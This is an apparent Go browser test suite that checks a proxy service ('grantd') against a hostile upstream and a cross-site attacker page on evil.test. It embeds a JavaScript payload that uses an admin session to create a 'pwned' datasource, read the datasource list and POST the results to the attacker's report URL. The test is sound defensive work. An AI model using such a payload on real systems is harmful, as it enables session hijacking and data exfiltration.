package ui_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// Two host names for one loopback. Two loopback ports would not do: a
// site ignores the port, so 127.0.0.1:1 and 127.0.0.1:2 are same-site.
// grantd is reached as localhost, which chromium counts as a secure
// context, so it sends Fetch Metadata (Sec-Fetch-*) as it would to an
// https grantd; the attacker is evil.test, which chromium is told to
// resolve to 127.0.0.1. Neither is under a public suffix the other
// shares, so they are different sites for SameSite and Sec-Fetch-Site.
// The tests check that chromium agrees before they count anything.
const (
	grantdHost = "localhost"
	evilHost   = "evil.test"
)

func crossSiteBrowser(t *testing.T) (context.Context, string) {
	return browser(t, chromedp.Flag("host-resolver-rules", "MAP "+evilHost+" 127.0.0.1"))
}

// hostURL is u with its host name replaced by host, port kept.
func hostURL(t *testing.T, u, host string) string {
	t.Helper()
	rest, ok := strings.CutPrefix(u, "http://")
	if !ok {
		t.Fatalf("not an http URL: %s", u)
	}
	_, port, err := net.SplitHostPort(strings.SplitN(rest, "/", 2)[0])
	if err != nil {
		t.Fatal(err)
	}
	return "http://" + host + ":" + port
}

// attacker is a site on another origin: it serves a page with a link to
// target and collects what scripts report back to it.
type attacker struct {
	*httptest.Server
	URL     string // by its own host name
	probe   string // a grantd URL the page loads as an image
	reports chan string
}

func newAttacker(t *testing.T, grantd, target string) *attacker {
	a := &attacker{reports: make(chan string, 16), probe: grantd + "/api/v1/session"}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			// The image is a cross-site subresource request to grantd: the
			// browser must hold the session cookie back from it (SameSite).
			fmt.Fprintf(w, `<!doctype html><title>Totally harmless</title><a id="go" href="%s">Click me</a><img id="probe" src="%s" alt="">`,
				target, a.probe)
		case "/report":
			b, _ := io.ReadAll(r.Body)
			a.reports <- string(b)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(a.Close)
	a.URL = hostURL(t, a.Server.URL, evilHost)
	return a
}

// hostileUpstream answers every request with HTML whose script, should it
// run on grantd's origin, uses the admin's session to create a datasource
// and read the list, and reports both to the attacker. It sets the title
// first, synchronously, so the test knows whether it ran at all.
func hostileUpstream(t *testing.T, tokenURL string, report func() string) (*httptest.Server, *atomic.Int64) {
	var calls atomic.Int64
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><title>upstream</title><script>
document.title = 'ran';
(async () => {
  const out = {origin: location.origin};
  try {
    const r = await fetch('/api/v1/datasources', {method: 'POST', headers: {'X-Grantd-CSRF': '1', 'Content-Type': 'application/json'},
      body: JSON.stringify({name: 'pwned', url: 'https://api.example.com', auth: {grantType: 'client_credentials', accessTokenUrl: %q, clientId: 'svc', clientSecret: 'svc-secret'}})});
    out.create = r.status;
  } catch (e) { out.create = String(e); }
  try {
    const r = await fetch('/api/v1/datasources');
    out.list = r.status + ' ' + (await r.text()).slice(0, 300);
  } catch (e) { out.list = String(e); }
  await fetch(%q, {method: 'POST', mode: 'no-cors', body: JSON.stringify(out)});
})();
</script>`, tokenURL, report())
	}))
	t.Cleanup(up.Close)
	return up, &calls
}

// requestLog records, from the DevTools protocol, what chromium really
// sent with each request — headers, and which cookies it held back and
// why — by URL.
type requestLog struct {
	mu    sync.Mutex
	urls  map[network.RequestID]string
	extra map[string][]*network.EventRequestWillBeSentExtraInfo
}

func logRequests(t *testing.T, ctx context.Context) *requestLog {
	l := &requestLog{urls: map[network.RequestID]string{}, extra: map[string][]*network.EventRequestWillBeSentExtraInfo{}}
	pending := map[network.RequestID]*network.EventRequestWillBeSentExtraInfo{}
	err := chromedp.Listen(ctx, func(ev any) {
		l.mu.Lock()
		defer l.mu.Unlock()
		switch ev := ev.(type) {
		case *network.EventRequestWillBeSent:
			l.urls[ev.RequestID] = ev.Request.URL
			if x, ok := pending[ev.RequestID]; ok {
				l.extra[ev.Request.URL] = append(l.extra[ev.Request.URL], x)
				delete(pending, ev.RequestID)
			}
		case *network.EventRequestWillBeSentExtraInfo:
			if u, ok := l.urls[ev.RequestID]; ok {
				l.extra[u] = append(l.extra[u], ev)
			} else {
				pending[ev.RequestID] = ev
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// header returns the values of header name sent to u, one per request.
func (l *requestLog) header(u, name string) []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []string
	for _, x := range l.extra[u] {
		for k, v := range x.Headers {
			if strings.EqualFold(k, name) {
				out = append(out, fmt.Sprint(v))
			}
		}
	}
	return out
}

// cookie says, for each request to u, whether the cookie name went along
// ("sent") or why it was held back.
func (l *requestLog) cookie(u, name string) []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []string
	for _, x := range l.extra[u] {
		for _, c := range x.AssociatedCookies {
			if c.Cookie == nil || c.Cookie.Name != name {
				continue
			}
			if len(c.BlockedReasons) == 0 {
				out = append(out, "sent")
			} else {
				out = append(out, fmt.Sprint(c.BlockedReasons))
			}
		}
	}
	return out
}

// checkCrossSite fails the test unless chromium treated the attacker's
// page and grantd as different sites: it held the session cookie back
// from the attacker's cross-site image for a SameSite reason, and marked
// the navigation to target cross-site.
func checkCrossSite(t *testing.T, l *requestLog, a *attacker, target string) {
	t.Helper()
	if got := l.cookie(a.probe, "grantd_session"); len(got) == 0 || !strings.Contains(got[0], "SameSite") {
		t.Fatalf("the test is not cross-site: the attacker's image request to grantd had the session cookie %q", got)
	}
	if site := l.header(target, "Sec-Fetch-Site"); len(site) == 0 || site[0] != "cross-site" {
		t.Fatalf("the test is not cross-site: chromium sent Sec-Fetch-Site %q", site)
	}
}

// get reads path with the admin token.
func (s *server) get(t *testing.T, path string) string {
	t.Helper()
	req, _ := http.NewRequest("GET", s.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+adminToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
	}
	return string(b)
}

// TestUIHostileUpstreamCannotActAsTheAdmin: a datasource's upstream
// answers HTML with a script. The admin is signed in; a page on another
// site links to that datasource's proxy URL, and the admin follows the
// link; then the admin opens the URL directly. Neither time may the script
// run on grantd's origin: it creates nothing and reads nothing, and the
// proxy does not even call the upstream on the browser's behalf.
func TestUIHostileUpstreamCannotActAsTheAdmin(t *testing.T) {
	s := startServer(t)
	ctx, shots := crossSiteBrowser(t)
	grantd := hostURL(t, s.URL, grantdHost)
	var evil *attacker
	up, calls := hostileUpstream(t, s.provider.TokenURL(), func() string { return evil.URL + "/report" })
	id := s.create(t, map[string]any{"name": "Hostile upstream", "url": up.URL,
		"auth": map[string]any{"grantType": "client_credentials", "accessTokenUrl": s.provider.TokenURL(), "clientId": "svc", "clientSecret": "svc-secret"}})
	target := grantd + "/api/v1/datasources/" + id + "/proxy/page"
	evil = newAttacker(t, grantd, target)
	requests := logRequests(t, ctx)

	signInAt(t, ctx, grantd)
	attempt := func(name string, resp *network.Response) {
		t.Helper()
		shot(t, ctx, shots, "20-"+name)
		title, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.title`))
		if err != nil {
			t.Fatal(err)
		}
		if title == "ran" {
			// The script runs asynchronously; wait for what it reports.
			select {
			case r := <-evil.reports:
				t.Errorf("%s: the upstream's script ran on grantd's origin and reported %s", name, r)
			case <-ctx.Done():
				t.Errorf("%s: the upstream's script ran on grantd's origin", name)
			}
		}
		if n := calls.Load(); n != 0 {
			t.Errorf("%s: the proxy called the upstream %d times for the browser (answered %d)", name, n, resp.Status)
		}
		if resp.Status != 401 && resp.Status != 403 {
			t.Errorf("%s: grantd answered %d, want 401 or 403", name, resp.Status)
		}
		if list := s.get(t, "/api/v1/datasources"); strings.Contains(list, "pwned") {
			t.Errorf("%s: a datasource was created: %s", name, list)
		}
		select {
		case r := <-evil.reports:
			t.Errorf("%s: the attacker got a report: %s", name, r)
		default:
		}
	}

	// 1. A link on another site.
	run(t, ctx, "open the hostile page", chromedp.Navigate(evil.URL+"/"), visible("#go"))
	resp, err := chromedp.RunResponse(ctx, click("#go"))
	if err != nil {
		t.Fatal(err)
	}
	checkCrossSite(t, requests, evil, target)
	t.Logf("cross-site link: session cookie %q, answer %d", requests.cookie(target, "grantd_session"), resp.Status)
	attempt("cross-site-link", resp)

	// 2. The admin pastes the URL into the address bar: no site at all
	// (Sec-Fetch-Site: none), so even a SameSite=Strict cookie goes along.
	resp, err = chromedp.Run(ctx, chromedp.NavigateResponse(target))
	if err != nil {
		t.Fatal(err)
	}
	attempt("typed-url", resp)
	if resp.Status != 403 {
		t.Errorf("a navigation with the session: %d, want 403 (navigation refused)", resp.Status)
	}
}
